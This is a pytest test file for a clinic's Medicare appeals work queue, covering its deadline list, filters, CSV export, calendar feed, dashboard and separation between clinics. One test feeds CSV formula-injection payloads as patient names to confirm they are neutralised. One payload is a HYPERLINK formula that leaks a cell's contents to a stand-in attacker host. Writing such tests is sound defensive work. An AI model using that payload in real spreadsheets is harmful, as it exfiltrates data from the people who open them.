"""Billing's work queue: open appeals by deadline, marked when overdue or due within 14
days, filterable; the CSV export, the deadline calendar and the outcome dashboard. Nothing
of another clinic ever shows up in any of them.
"""

import csv
import io
import re
from html.parser import HTMLParser

import icalendar
import pytest
from django.urls import resolve, reverse

from appeals.models import Appeal
from audit.models import AuditEntry
from tests.factories import BILLING, PatientFactory, ProviderFactory, UserFactory
from tests.factories_appeals import AppealFactory, AppealLetterFactory, DenialFactory, days_ago

QUEUE = reverse("appeals:work-queue")
CSV = reverse("appeals:export-csv")
ICS = reverse("appeals:deadlines-ical")
DASHBOARD = reverse("appeals:dashboard")

CSV_HEADER = [
    "Patient",
    "Date of service",
    "Program",
    "Level",
    "Status",
    "Notice date",
    "Filing deadline",
    "Amount in controversy",
    "Denial codes",
    "Provider",
]


class _Rows(HTMLParser):
    """The body rows of the page's tables: each row's class and its cells' text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.rows: list[tuple[str, list[str]]] = []
        self._in_body = False
        self._cell: list[str] | None = None

    def handle_starttag(self, tag, attrs):
        if tag == "tbody":
            self._in_body = True
        elif tag == "tr" and self._in_body:
            self.rows.append((dict(attrs).get("class") or "", []))
        elif tag in ("td", "th") and self._in_body:
            self._cell = []

    def handle_endtag(self, tag):
        if tag == "tbody":
            self._in_body = False
        elif tag in ("td", "th") and self._cell is not None:
            self.rows[-1][1].append(re.sub(r"\s+", " ", "".join(self._cell)).strip())
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


def table_rows(response) -> list[tuple[str, list[str]]]:
    parser = _Rows()
    parser.feed(response.content.decode())
    return parser.rows


def queue_names(response) -> list[str]:
    return [cells[1] for _, cells in table_rows(response)]


def appeal_for(clinic, first, last, provider=None, **kwargs) -> Appeal:
    patient = PatientFactory(clinic=clinic, first_name=first, last_name=last)
    claim = {"denial__claim__patient": patient}
    if provider is not None:
        claim["denial__claim__provider"] = provider
    return AppealFactory(**claim, **kwargs)


@pytest.fixture
def nolan(clinic):
    return ProviderFactory(clinic=clinic, first_name="Owen", last_name="Nolan")


@pytest.fixture
def queue(clinic, provider, nolan):
    """Our clinic's appeals, by deadline: filed (past), overdue, due in 5, 14 and 15 days,
    and one decided."""
    return {
        "filed": appeal_for(
            clinic, "Linda", "Emerson", provider, due_in=-10, status=Appeal.Status.FILED
        ),
        "overdue": appeal_for(clinic, "Margaret", "Abbott", provider, due_in=-3),
        "soon": appeal_for(
            clinic, "Robert", "Baxter", nolan, due_in=5, denial__notice_type="ma_od"
        ),
        "fortnight": appeal_for(
            clinic,
            "Dorothy",
            "Carver",
            provider,
            due_in=14,
            denial__notice_type="part_d_cd",
            status=Appeal.Status.READY,
        ),
        "later": appeal_for(clinic, "James", "Dalton", nolan, due_in=15, level="reconsideration"),
        "decided": appeal_for(
            clinic,
            "Harold",
            "Fletcher",
            provider,
            due_in=-40,
            status=Appeal.Status.DECIDED,
            decision=Appeal.Decision.UNFAVORABLE,
            decision_date=days_ago(5),
        ),
    }


@pytest.fixture
def strangers(other_clinic):
    """Another clinic's appeals: one overdue, one decided in its favour."""
    return [
        appeal_for(other_clinic, "Patricia", "Garrison", due_in=-2),
        appeal_for(
            other_clinic,
            "Walter",
            "Hale",
            due_in=-30,
            status=Appeal.Status.DECIDED,
            decision=Appeal.Decision.FAVORABLE,
            decision_date=days_ago(3),
        ),
    ]


@pytest.fixture
def desk(billing, client_for):
    return client_for(billing)


# --- The queue ---------------------------------------------------------------------------


def test_open_appeals_are_listed_by_deadline_with_overdue_and_due_soon_marked(
    desk, queue, strangers
):
    response = desk.get(QUEUE)

    assert response.status_code == 200
    rows = table_rows(response)
    names = [cells[1] for _, cells in rows]
    assert names == [
        "Linda Emerson",
        "Margaret Abbott",
        "Robert Baxter",
        "Dorothy Carver",
        "James Dalton",
    ]
    marks = {cells[1]: (css, cells[0]) for css, cells in rows}
    deadline = {key: a.filing_deadline.strftime("%m/%d/%Y") for key, a in queue.items()}
    # A filed appeal's deadline is met, however long ago it passed.
    assert marks["Linda Emerson"] == ("", deadline["filed"])
    assert marks["Margaret Abbott"] == ("row-overdue", f"{deadline['overdue']} overdue")
    assert marks["Robert Baxter"] == ("row-due-soon", f"{deadline['soon']} 5 days")
    assert marks["Dorothy Carver"] == ("row-due-soon", f"{deadline['fortnight']} 14 days")
    assert marks["James Dalton"] == ("", deadline["later"])
    html = response.content.decode()
    assert html.count('<span class="badge text-bg-danger">overdue</span>') == 1
    assert html.count('<span class="badge text-bg-warning">') == 2


def test_a_row_shows_program_level_status_provider_codes_and_amount(desk, queue):
    rows = {cells[1]: cells for _, cells in table_rows(desk.get(QUEUE))}

    assert rows["Robert Baxter"][2:] == [
        "Medicare Advantage",
        "Plan reconsideration",
        "Draft",
        "Owen Nolan, MD",
        "CO-50",
        "$850.00",
    ]
    assert rows["Dorothy Carver"][2:5] == ["Part D", "Redetermination", "Ready to file"]


def test_a_patient_name_links_to_the_appeal(desk, queue):
    html = desk.get(QUEUE).content.decode()

    url = reverse("appeals:appeal-detail", args=[queue["overdue"].pk])
    assert f'<a href="{url}">Margaret Abbott</a>' in html


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        pytest.param("level=reconsideration", ["James Dalton"], id="level"),
        pytest.param("level=plan-reconsideration", ["Robert Baxter"], id="level-ma"),
        pytest.param("track=advantage", ["Robert Baxter"], id="program-ma"),
        pytest.param("track=part-d", ["Dorothy Carver"], id="program-part-d"),
        pytest.param(
            "track=original", ["Linda Emerson", "Margaret Abbott", "James Dalton"], id="original"
        ),
        pytest.param("status=filed", ["Linda Emerson"], id="status-filed"),
        pytest.param("status=ready", ["Dorothy Carver"], id="status-ready"),
        pytest.param("status=decided&open_only=false", ["Harold Fletcher"], id="decided"),
        pytest.param(
            "track=original&status=draft", ["Margaret Abbott", "James Dalton"], id="combined"
        ),
    ],
)
def test_the_queue_filters_by_level_program_and_status(desk, queue, strangers, query, expected):
    assert queue_names(desk.get(f"{QUEUE}?{query}")) == expected


def test_the_queue_filters_by_provider(desk, queue, nolan):
    response = desk.get(f"{QUEUE}?provider={nolan.pk}")

    assert queue_names(response) == ["Robert Baxter", "James Dalton"]


def test_open_only_off_adds_the_decided_appeals(desk, queue, strangers):
    names = queue_names(desk.get(f"{QUEUE}?open_only=false"))

    assert names[0] == "Harold Fletcher"
    assert len(names) == 6
    assert "Walter Hale" not in names


def test_another_clinics_provider_filter_reveals_nothing(desk, queue, strangers):
    foreign = strangers[0].denial.claim.provider

    response = desk.get(f"{QUEUE}?provider={foreign.pk}")

    assert response.status_code == 200
    assert "Patricia Garrison" not in queue_names(response)
    assert foreign.last_name not in response.content.decode()


def test_another_clinics_billing_sees_only_its_own_queue(
    other_clinic, client_for, queue, strangers
):
    them = UserFactory(role=BILLING, clinics=[other_clinic])

    assert queue_names(client_for(them).get(QUEUE)) == ["Patricia Garrison"]


def test_an_empty_queue_says_how_to_start_one(desk, strangers, page_text):
    response = desk.get(QUEUE)

    assert "No appeals match. Record a denial from a patient's page to start one." in page_text(
        response
    )


# --- CSV export --------------------------------------------------------------------------


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_the_csv_has_a_header_and_one_row_per_open_appeal(desk, billing, queue, strangers):
    response = desk.get(CSV)

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="appeals.csv"'
    header, *rows = csv_rows(response)
    assert header == CSV_HEADER
    assert [row[0] for row in rows] == [
        "Linda Emerson",
        "Margaret Abbott",
        "Robert Baxter",
        "Dorothy Carver",
        "James Dalton",
    ]
    overdue = queue["overdue"]
    claim = overdue.denial.claim
    assert rows[1] == [
        "Margaret Abbott",
        claim.service_from.isoformat(),
        # Labels, not codes (issue 17: "CSV with labels").
        "Original Medicare",
        "Redetermination",
        "Draft",
        overdue.notice_date.isoformat(),
        overdue.filing_deadline.isoformat(),
        "850.00",
        "CO-50",
        str(claim.provider),
    ]
    event = AuditEntry.objects.get(kind="access", action="export")
    assert (event.user, event.action, event.model_label) == (billing, "export", "appeal-queue.csv")


def test_the_csv_follows_the_queue_filters(desk, queue):
    header, *rows = csv_rows(desk.get(f"{CSV}?track=part-d"))

    assert header == CSV_HEADER
    assert [row[0] for row in rows] == ["Dorothy Carver"]


@pytest.mark.parametrize(
    "first_name",
    ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+cmd", "-2+3", "@SUM(A1)"],
)
def test_a_formula_looking_patient_name_is_neutralised(desk, clinic, first_name):
    appeal_for(clinic, first_name, "Hale", due_in=20)

    _, row = csv_rows(desk.get(CSV))

    assert row[0] == f"'{first_name} Hale"


# --- iCalendar feed ---------------------------------------------------------------------


def test_the_calendar_needs_a_signed_in_user(client_for, queue):
    response = client_for(None).get(ICS)

    assert response.status_code == 302
    assert response["Location"] == f"{reverse('login')}?next={ICS}"


def test_the_calendar_has_one_event_per_appeal_awaiting_filing_and_no_names(desk, queue, strangers):
    response = desk.get(ICS)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/calendar; charset=utf-8"
    calendar = icalendar.Calendar.from_ical(response.content)
    events = {str(e["uid"]): e for e in calendar.walk("VEVENT")}
    # Filed and decided appeals have no filing deadline left to meet.
    waiting = [queue[key] for key in ("overdue", "soon", "fortnight", "later")]
    assert set(events) == {f"appeal-{a.pk}@medicare-desk" for a in waiting}
    for appeal in waiting:
        event = events[f"appeal-{appeal.pk}@medicare-desk"]
        assert event.decoded("dtstart") == appeal.filing_deadline
        chart = f"KC-{appeal.patient.pk:06d}"
        assert str(event["summary"]) == f"{appeal.level_label} due (chart {chart})"
        assert str(event["url"]).endswith(reverse("appeals:appeal-detail", args=[appeal.pk]))
    text = response.content.decode().replace("\r\n ", "")
    assert AuditEntry.objects.get(kind="access", action="export").model_label == (
        "appeal-deadlines.ics"
    )
    everyone = [*queue.values(), *strangers]
    for appeal in everyone:
        patient = appeal.patient
        assert patient.first_name not in text
        assert patient.last_name not in text


# --- Dashboard --------------------------------------------------------------------------


@pytest.fixture
def outcomes(clinic):
    """Decided appeals: redetermination 1 won / 1 lost, reconsideration 1 won / 1 lost."""

    def decided(first, last, level, decision, carc):
        return appeal_for(
            clinic,
            first,
            last,
            level=level,
            due_in=-60,
            status=Appeal.Status.DECIDED,
            decision=decision,
            decision_date=days_ago(10),
            denial__carc_codes=carc,
        )

    return [
        decided("Ava", "Ingram", "redetermination", Appeal.Decision.UNFAVORABLE, "50"),
        decided("Ben", "Jordan", "redetermination", Appeal.Decision.FAVORABLE, "197"),
        decided("Cara", "Keller", "reconsideration", Appeal.Decision.PARTIAL, "50"),
        decided("Dan", "Lowe", "reconsideration", Appeal.Decision.DISMISSED, "50"),
    ]


def test_the_dashboard_counts_open_overdue_and_due_soon_appeals(
    desk, clinic, other_clinic, queue, strangers, page_text
):
    DenialFactory(claim__patient=PatientFactory(clinic=clinic))
    DenialFactory(claim__patient=PatientFactory(clinic=other_clinic))

    text = page_text(desk.get(DASHBOARD))

    # Open: everything not decided (the filed one too); overdue and due soon: awaiting filing.
    assert "5 open appeals" in text
    assert "1 overdue" in text
    assert "2 due within 14 days" in text
    assert "1 denials not yet appealed" in text


def test_the_dashboard_counts_wins_and_losses_by_level_and_by_reason(
    desk, queue, outcomes, strangers
):
    response = desk.get(DASHBOARD)

    rows = [cells for _, cells in table_rows(response)]
    by_level = [cells[:3] for cells in rows if len(cells) == 4]
    by_reason = [cells for cells in rows if len(cells) == 3]
    # The decided redetermination in `queue` is a loss; the other clinic's win is not ours.
    assert sorted(by_level) == [
        ["Reconsideration", "1", "1"],
        ["Redetermination", "1", "2"],
    ]
    assert by_reason == [["CO-197", "1", "0"], ["CO-50", "1", "3"]]
    html = response.content.decode()
    assert 'aria-label="1 won, 2 lost"' in html
    assert 'aria-label="1 won, 1 lost"' in html


def test_the_dashboard_says_when_nothing_is_decided_yet(desk, clinic, strangers, page_text):
    appeal_for(clinic, "Ruth", "Mason", due_in=30)

    text = page_text(desk.get(DASHBOARD))

    assert text.count("No decided appeals yet.") == 2


def test_another_clinics_billing_counts_only_its_own(
    other_clinic, client_for, queue, strangers, page_text
):
    them = UserFactory(role=BILLING, clinics=[other_clinic])

    response = client_for(them).get(DASHBOARD)

    text = page_text(response)
    assert "1 open appeals" in text
    assert "1 overdue" in text
    assert "0 due within 14 days" in text
    assert [cells[:3] for _, cells in table_rows(response)] == [
        ["Redetermination", "1", "0"],
        ["CO-50", "1", "0"],
    ]
    header, *rows = csv_rows(client_for(them).get(CSV))
    assert [row[0] for row in rows] == ["Patricia Garrison"]
    calendar = icalendar.Calendar.from_ical(client_for(them).get(ICS).content)
    assert [str(e["uid"]) for e in calendar.walk("VEVENT")] == [
        f"appeal-{strangers[0].pk}@medicare-desk"
    ]


def test_an_ma_case_the_plan_forwards_to_the_ire_is_not_overdue(desk, clinic, page_text):
    denial = DenialFactory(
        claim__patient=PatientFactory(clinic=clinic, first_name="Irene", last_name="Quinn"),
        notice_type="ma_od",
        notice_date=days_ago(40),
    )
    plan = reverse("appeals:appeal-start", args=[denial.pk])
    plan = Appeal.objects.get(pk=resolve(desk.post(plan)["Location"]).kwargs["pk"])
    AppealLetterFactory(appeal=plan, signed=True)  # filed only once its letter is signed
    desk.post(
        reverse("appeals:appeal-file", args=[plan.pk]),
        {"filed_date": days_ago(30).isoformat(), "filed_method": "portal"},
    )
    desk.post(
        reverse("appeals:appeal-decision", args=[plan.pk]),
        {"decision": "unfavorable", "decision_date": days_ago(10).isoformat()},
    )
    ire = resolve(desk.post(reverse("appeals:appeal-next", args=[plan.pk]))["Location"])
    ire = Appeal.objects.get(pk=ire.kwargs["pk"])
    assert (ire.track, ire.level) == ("advantage", "ire")

    rows = {cells[1]: css for css, cells in table_rows(desk.get(QUEUE))}
    dashboard = page_text(desk.get(DASHBOARD))

    assert rows["Irene Quinn"] != "row-overdue"
    assert "0 overdue" in dashboard
